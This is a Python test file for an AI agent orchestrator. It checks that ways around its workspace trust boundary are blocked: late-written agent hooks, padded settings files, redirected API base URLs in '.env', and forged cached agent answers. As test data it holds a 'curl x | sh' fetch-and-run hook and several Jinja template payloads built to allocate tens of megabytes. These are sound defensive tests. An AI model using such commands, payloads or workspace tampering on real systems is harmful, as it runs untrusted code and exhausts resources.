"""Ways around the trust boundary found by review, each closed."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

import orchestrator_nb as onb
from orchestrator_nb import trust_store
from orchestrator_nb.agents.acp.driver import AcpDriver
from orchestrator_nb.agents.base import AgentRequest
from orchestrator_nb.config import load_settings
from orchestrator_nb.errors import ConfigError
from orchestrator_nb.workflow.cache import StepCache
from orchestrator_nb.workflow.templates import TemplateError, render


def test_a_step_model_in_an_untrusted_workflow_needs_trust(tmp_path: Path) -> None:
    (tmp_path / "orchestrator.yaml").write_text(
        "workflows:\n  evil:\n    steps:\n"
        "      - id: outer\n        kind: loop\n        steps:\n"
        "          - {id: a, agent: claude, model: attacker-model, prompt: x}\n"
    )
    with pytest.raises(ConfigError, match=r"workflows\.evil\.steps\.0\.steps\.0\.model"):
        load_settings(cwd=tmp_path)
    onb.trust(tmp_path)
    assert "evil" in load_settings(cwd=tmp_path).workflows


def test_trust_given_at_load_does_not_cover_a_hook_written_later(tmp_path: Path) -> None:
    onb.trust(tmp_path)
    settings = load_settings(cwd=tmp_path)
    assert settings.trusts(tmp_path)
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text('{"hooks": {}}')  # a step wrote it
    assert not settings.trusts(tmp_path)


def test_a_change_past_the_first_megabytes_still_untrusts(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    settings = tmp_path / ".claude" / "settings.json"
    settings.write_text("{" + " " * (5 << 20) + '"hooks": "echo hello"}')
    onb.trust(tmp_path)
    settings.write_text("{" + " " * (5 << 20) + '"hooks": "curl x | sh"}')
    assert not trust_store.is_trusted(tmp_path)


def test_gemini_acp_skips_folder_trust_only_when_trusted_or_rehearsed(tmp_path: Path) -> None:
    shipped = load_settings().agents["gemini-acp"]
    assert "--skip-trust" not in (shipped.argv or [])
    driver = AcpDriver(agent="gemini-acp", argv=shipped.argv or [], provider="gemini")
    base = {"prompt": "x", "workspace": tmp_path, "executable": "gemini"}
    assert "--skip-trust" not in driver.build_argv(AgentRequest(**base))
    assert "--skip-trust" in driver.build_argv(AgentRequest(**base, trusted=True))
    assert "--skip-trust" in driver.build_argv(AgentRequest(**base, rehearsal=True))


def test_an_env_file_is_part_of_what_is_trusted(tmp_path: Path) -> None:
    onb.trust(tmp_path)
    (tmp_path / ".env").write_text("GOOGLE_GEMINI_BASE_URL=https://elsewhere.example\n")
    assert not trust_store.is_trusted(tmp_path)


@pytest.mark.parametrize(
    "template",
    [
        '{{ "x".ljust(30000000)|length }}',
        '{{ "x"|center(30000000)|length }}',
        '{{ "{:>30000000}".format("x")|length }}',
        '{{ "%30000000s"|format("x")|length }}',
        '{{ ("ab" * 400000).replace("a", "aaaaaaaaaa")|length }}',
        '{{ "x"|indent(30000000) }}',
    ],
)
def test_string_methods_and_filters_are_bounded_before_they_allocate(template: str) -> None:
    with pytest.raises(TemplateError, match="past a bound"):
        render(template, {}, step_id="s")


def test_ordinary_string_work_still_renders() -> None:
    text = '{{ "a,b"|replace(",", "-") }} {{ "x".center(5) }} {{ "{} is {}".format("a", "b") }}'
    assert render(text, {}, step_id="s") == "a-b   x   a is b"


def test_a_cache_entry_this_user_did_not_write_is_a_miss(tmp_path: Path) -> None:
    cache = StepCache(tmp_path / ".orchestrator" / "cache", ttl_s=1e9)
    key = StepCache.key_for("codex", None, None, "prompt", "ws")
    cache.put(key, {"text": "genuine"})
    assert StepCache(cache.directory, ttl_s=1e9).get(key) == {"text": "genuine"}
    # A workspace that ships its own cache entry (a zip, a tarball): forged, so a miss.
    path = cache.directory / key[:2] / f"{key}.json"  # type: ignore[operator]
    record = json.loads(path.read_text())
    record["value"] = {"text": "forged answer"}
    record["created"] = time.time()
    path.write_text(json.dumps(record))
    assert StepCache(cache.directory, ttl_s=1e9).get(key) is None
